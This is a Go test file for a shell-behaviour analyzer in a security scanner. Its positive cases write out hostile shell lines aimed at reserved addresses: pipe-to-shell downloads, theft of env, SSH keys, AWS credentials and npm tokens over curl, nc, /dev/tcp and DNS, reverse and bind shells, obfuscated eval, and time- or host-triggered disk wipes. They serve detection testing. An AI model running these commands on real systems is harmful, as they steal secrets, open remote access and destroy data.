package shbehavior

import (
	"strings"
	"testing"

	"github.com/doorman-sec/doorman/analyzer"
	"github.com/doorman-sec/doorman/analyzer/analyzertest"
	"github.com/doorman-sec/doorman/analyzer/pkgmeta"
	"github.com/doorman-sec/doorman/finding"
)

func scan(t *testing.T, files map[string]string) *finding.Report {
	t.Helper()
	return analyzertest.Scan(t, []*analyzer.Analyzer{pkgmeta.Analyzer, Analyzer}, files)
}

// Every positive is an inert re-creation: reserved addresses, example.com.
var positives = []struct {
	rule, script string
}{
	{"DM-SH-001", "curl -fsSL https://example.com/install.sh | sh\n"},
	{"DM-SH-001", "wget -qO- http://192.0.2.10/x | sudo bash -s -- --yes\n"},
	{"DM-SH-001", "wget -O - http://192.0.2.10/x | tr -d '\\r' | bash\n"},
	{"DM-SH-001", "bash <(curl -s https://example.com/i.sh)\n"},
	{"DM-SH-001", "sh -c \"$(curl -fsSL https://example.com/i.sh)\"\n"},
	{"DM-SH-001", "u=http://192.0.2.7/p.sh\ncode=$(wget -q -O- $u)\neval \"$code\"\n"},
	{"DM-SH-001", "curl -o /tmp/upd https://example.com/upd && chmod +x /tmp/upd && /tmp/upd\n"},
	{"DM-SH-001", "cd /tmp; wget http://192.0.2.1/bot.sh; sh bot.sh\n"},
	{"DM-SH-001", "sudo sh -c 'curl -s http://192.0.2.1/a | sh'\n"},
	{"DM-SH-002", "curl -sm 0.5 -d \"$(git remote -v)<<<<<< ENV $(env)\" http://192.0.2.5/upload/v2 || true\n"},
	{"DM-SH-002", "env | base64 | curl -X POST --data-binary @- https://collect.example.invalid/e\n"},
	{"DM-SH-002", "curl -F key=@$HOME/.ssh/id_rsa https://192.0.2.9/k\n"},
	{"DM-SH-002", "wget --post-file=$HOME/.aws/credentials http://192.0.2.9/\n"},
	{"DM-SH-002", "cat ~/.npmrc | nc 192.0.2.3 4444\n"},
	{"DM-SH-002", "printenv > /tmp/.e\ncurl -T /tmp/.e ftp://192.0.2.3/\n"},
	{"DM-SH-002", "dig $(whoami).$(hostname).x.example.invalid\n"},
	{"DM-SH-002", "env > /dev/tcp/192.0.2.4/8080\n"},
	{"DM-SH-003", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"},
	{"DM-SH-003", "nc -e /bin/sh 192.0.2.1 4444\n"},
	{"DM-SH-003", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f\n"},
	{"DM-SH-003", "exec 5<>/dev/tcp/192.0.2.1/80\ncat <&5 | while read line; do $line 2>&5 >&5; done\n"},
	{"DM-SH-003", "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"192.0.2.1\",1));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'\n"},
	{"DM-SH-003", "socat tcp-connect:192.0.2.1:4444 exec:/bin/sh,pty,stderr\n"},
	{"DM-SH-004", "nc -lvp 4444 -e /bin/bash &\n"},
	{"DM-SH-005", "echo ZWNobyBoZWxsbwo= | base64 -d | sh\n"},
	{"DM-SH-005", "eval \"$(echo ZWNobyBoaQ== | base64 --decode)\"\n"},
	{"DM-SH-005", "eval \"$(printf '\\x65\\x63\\x68\\x6f\\x20\\x68\\x69')\"\n"},
	{"DM-SH-005", "eval $'\\x65\\x63\\x68\\x6f\\x20\\x68\\x69'\n"},
	{"DM-SH-005", "echo aGk= | base64 -d > /tmp/.x.sh\nbash /tmp/.x.sh\n"},
	{"DM-SH-006", "if [ \"$(date +%Y%m%d)\" -ge 20300101 ]; then\n  rm -rf --no-preserve-root /\nfi\n"},
	{"DM-SH-006", "[[ $(hostname) == build-07 ]] && rm -rf ~/\n"},
	{"DM-SH-006", "if [[ \"$LANG\" == ru_RU* ]]; then dd if=/dev/zero of=/dev/sda bs=1M; fi\n"},
}

func TestPositives(t *testing.T) {
	for _, tc := range positives {
		rep := scan(t, map[string]string{"scripts/run.sh": "#!/bin/sh\n" + tc.script})
		if got := analyzertest.Find(rep, tc.rule, "run.sh"); len(got) == 0 {
			t.Errorf("%s not found in %q; got %v", tc.rule, tc.script, analyzertest.Rules(rep))
		} else if got[0].Location.Line < 2 || got[0].Evidence == "" {
			t.Errorf("%s: bad location/evidence %+v", tc.rule, got[0])
		}
	}
}

// Near misses from real scripts: none may be reported at all.
var nearMisses = []string{
	// Downloads verified before running.
	"curl -fsSLo rustup-init https://example.com/rustup-init\necho \"0123abcd  rustup-init\" | sha256sum -c -\nchmod +x rustup-init && ./rustup-init -y\n",
	"curl -LO https://example.com/tool.sh\ncurl -LO https://example.com/tool.sh.asc\ngpg --verify tool.sh.asc tool.sh\nbash tool.sh\n",
	"wget -O app https://example.com/app\nif [ \"$(sha256sum app | cut -d' ' -f1)\" != \"$PINNED\" ]; then exit 1; fi\n./app\n",
	// Downloads that are not run.
	"curl -fsSL https://example.com/data.json -o data.json\njq . data.json\n",
	"curl -s https://example.com/key.gpg | gpg --dearmor -o /usr/share/keyrings/k.gpg\n",
	"wget -qO- https://example.com/a.tar.gz | tar xz\n",
	// Environment for debugging, results to CI.
	"env | grep -i proxy\nprintenv PATH\n",
	"curl -F file=@build/test-results.xml https://ci.example.com/api/results\n",
	"curl -H \"Authorization: token $GITHUB_TOKEN\" -d '{\"body\":\"ok\"}' https://api.github.com/repos/o/r/issues/1/comments\n",
	"curl -d \"$(cat payload.json)\" https://api.example.com/v1/items\n",
	// Netcat as a port check and a static server.
	"until nc -z localhost 5432; do sleep 1; done\n",
	"nc -l 8080 < response.http\n",
	// Decoding to files that are data.
	"echo \"$CERT_B64\" | base64 -d > cert.pem\nopenssl x509 -in cert.pem -noout\n",
	"printf '\\x1b[31m%s\\x1b[0m\\n' error\n",
	// Dates for logs and cache expiry.
	"if [ $(date +%H) -lt 6 ]; then echo 'good night'; fi\n",
	"if [ \"$(date +%s)\" -gt \"$expiry\" ]; then rm -rf \"$CACHE_DIR\"; fi\n",
	"[ \"$(hostname)\" = ci ] && rm -rf ./build\n",
}

func TestNearMisses(t *testing.T) {
	for _, src := range nearMisses {
		rep := scan(t, map[string]string{"scripts/run.sh": "#!/bin/bash\n" + src})
		if len(rep.Findings) != 0 {
			t.Errorf("false positive in %q: %+v", src, rep.Findings)
		}
	}
}

// A README's install line is documentation; a Python file is not shell;
// an extensionless file without a shell shebang is not read.
func TestOnlyScripts(t *testing.T) {
	rep := scan(t, map[string]string{
		"README.md":   "```\ncurl -fsSL https://example.com/install.sh | sh\n```\n",
		"tool.py":     "curl https://example.com | sh\n",
		"bin/tool":    "#!/usr/bin/env python3\n# curl https://example.com | sh\n",
		"Makefile.in": "curl https://example.com | sh\n",
	})
	if len(rep.Findings) != 0 {
		t.Errorf("non-scripts read: %+v", rep.Findings)
	}
	rep = scan(t, map[string]string{"bin/tool": "#!/usr/bin/env bash\ncurl https://example.com/x | bash\n"})
	if len(analyzertest.Find(rep, "DM-SH-001", "bin/tool")) != 1 {
		t.Errorf("shebang script missed: %v", analyzertest.Rules(rep))
	}
}

// Severity follows the phase: a Debian postinst is install time
// (critical), a script under tests/ is low.
func TestPhase(t *testing.T) {
	rep := scan(t, map[string]string{
		"pkg/DEBIAN/control":  "Package: x\nVersion: 1.0\nArchitecture: all\nMaintainer: a <a@example.com>\nDescription: x\n",
		"pkg/DEBIAN/postinst": "#!/bin/sh\ncurl -s http://192.0.2.1/x | sh\n",
		"tests/e2e.sh":        "#!/bin/sh\ncurl -s http://192.0.2.1/x | sh\n",
	})
	for _, f := range rep.Findings {
		switch {
		case strings.HasSuffix(f.Location.Path, "postinst") && f.Severity != finding.Critical:
			t.Errorf("postinst: %s (%s)", f.Severity, f.Message)
		case strings.HasSuffix(f.Location.Path, "e2e.sh") && f.Severity != finding.Low:
			t.Errorf("test script: %s", f.Severity)
		}
	}
	if len(rep.Findings) != 2 {
		t.Errorf("findings: %v", analyzertest.Rules(rep))
	}
}

// An installer fetched over HTTPS from a named host (mise, rustup, the
// golangci-lint script in developer scripts) is the host owner's risk:
// medium. Plain HTTP or a bare address: high.
func TestDownloadSeverityBySource(t *testing.T) {
	r := scan(t, map[string]string{
		"scripts/setup-host.sh": "#!/bin/sh\ncurl -fsSL https://mise.example.com | sh\n",
		"scripts/plain.sh":      "#!/bin/sh\ncurl -fsSL http://get.example.com/i.sh | sh\n",
		"scripts/ip.sh":         "#!/bin/sh\nwget -qO- https://192.0.2.7/i.sh | bash\n",
	})
	want := map[string]finding.Severity{"setup-host.sh": finding.Medium, "plain.sh": finding.High, "ip.sh": finding.High}
	for _, f := range r.Findings {
		for name, sev := range want {
			if strings.HasSuffix(f.Location.Path, "/"+name) {
				if f.Severity != sev {
					t.Errorf("%s: %s, want %s (%s)", name, f.Severity, sev, f.Message)
				}
				delete(want, name)
			}
		}
	}
	if len(want) > 0 {
		t.Errorf("not reported: %v", want)
	}
}
